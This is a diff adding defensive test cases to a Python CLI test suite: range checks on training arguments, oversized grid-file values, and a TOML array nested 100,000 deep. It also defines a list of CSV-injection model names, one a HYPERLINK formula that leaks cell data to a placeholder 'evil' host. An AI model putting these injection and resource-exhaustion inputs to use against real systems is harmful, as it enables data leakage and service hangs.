@@ -374,3 +374,59 @@ def cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
         ("queue configure --max-pending -1", ["queue", "configure", "--queue", q, "--max-pending", "-1"],
          "give 0 (no limit) or more"),
     ]
+
+
+# --- round three (issue 40): runs that never end, files that hang, a public form's limits -------------------
+
+# Spreadsheet formulas as a model name (OWASP CSV injection): each must reach a CSV as text.
+FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+def nested_toml(depth: int) -> str:
+    """A grid file whose overrides table holds an inline array nested `depth` deep (tomllib recurses)."""
+    return ('[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nmodels = [{ model = "org/enc" }]\n'
+            f"overrides = {{ epochs = {'[' * depth}1{']' * depth} }}\n")
+
+
+def grid_with(overrides: str) -> str:
+    return f'[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nmodels = [{{ model = "org/enc" }}]\noverrides = {{ {overrides} }}\n'
+
+
+def round3_cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
+    """(what, argv, a phrase of the expected error line) for the command lines of issue 40: each was queued,
+    trained forever, exited 0 or printed a traceback on main 05b95a1; each must end with rc != 0 and one
+    `error:` line."""
+    q = str(tmp / "q3")
+    submit = ["submit", "org/enc", "--revision", "a" * 40, "--tasks", "demo-cls", "--queue", q]
+    eval_ = ["eval", "--model", "org/enc", "--tasks", "demo-cls"]
+    grids = tmp / "grids"
+    grids.mkdir(exist_ok=True)
+    files = {"deep": nested_toml(100_000), "epochs": grid_with("epochs = 1e20"), "steps": grid_with("max_steps = 10_000_000_000"),
+             "lr": grid_with("lr = 5.0"), "length": grid_with("max_length = 1_000_000_000")}
+    for name, text in files.items():
+        (grids / f"{name}.toml").write_text(text)
+    return [
+        ("submit --max-steps 10**30", [*submit, "--max-steps", "9" * 30], "must be from 1 to 1e+07"),
+        ("submit --epochs 1e20", [*submit, "--epochs", "100000000000000000000"], "must be from 1 to 1000"),
+        ("submit --max-length 1e30", [*submit, "--max-length", "1" + "0" * 30], "must be from 8 to 131072"),
+        ("submit --batch-size 10**9", [*submit, "--batch-size", "1000000000"], "must be from 1 to 8192"),
+        ("submit --lr 5", [*submit, "--lr", "5"], "must be above 0 to 1"),
+        ("submit --warmup-ratio 1", [*submit, "--warmup-ratio", "1"], "must be from 0 to below 1"),
+        ("eval --max-steps 1e30", [*eval_, "--max-steps", "1e30"], "bad --max-steps value '1e30'"),
+        ("eval --max-steps 10**30", [*eval_, "--max-steps", "9" * 30], "must be from 1 to 1e+07"),
+        ("eval --epochs 0", [*eval_, "--epochs", "0"], "must be from 1 to 1000"),
+        ("eval --eval-every -1", [*eval_, "--eval-every", "-1"], "must be from 1 to 1e+07"),
+        ("eval --dry-run --lr nan", [*eval_, "--lr", "nan", "--dry-run"], "give a finite number"),
+        ("eval --dry-run --epochs 1e20", [*eval_, "--epochs", "100000000000000000000", "--dry-run"], "from 1 to 1000"),
+        ("grid epochs = 1e20", ["eval", "--config", str(grids / "epochs.toml")], "override epochs"),
+        ("grid max_steps = 1e10", ["eval", "--config", str(grids / "steps.toml")], "must be from 1 to 1e+07"),
+        ("grid lr = 5.0", ["eval", "--config", str(grids / "lr.toml")], "must be above 0 to 1"),
+        ("grid max_length = 1e9", ["eval", "--config", str(grids / "length.toml")], "must be from 8 to 131072"),
+        ("grid nested 100k deep", ["eval", "--config", str(grids / "deep.toml"), "--dry-run"], "nested too deeply"),
+        ("queue configure --max-queued -1", ["queue", "configure", "--queue", q, "--max-queued", "-1"],
+         "give 0 (no limit) or more"),
+        ("leaderboard --trusted-proxy junk", ["leaderboard", "--trusted-proxy", "not-an-ip", "--results", str(tmp)],
+         "expected an IP address or network"),
+        ("worker --request-hours inf", ["worker", "--queue", q, "--results", str(tmp / "r"), "--request-hours", "inf"],
+         "give a finite number"),
+    ]
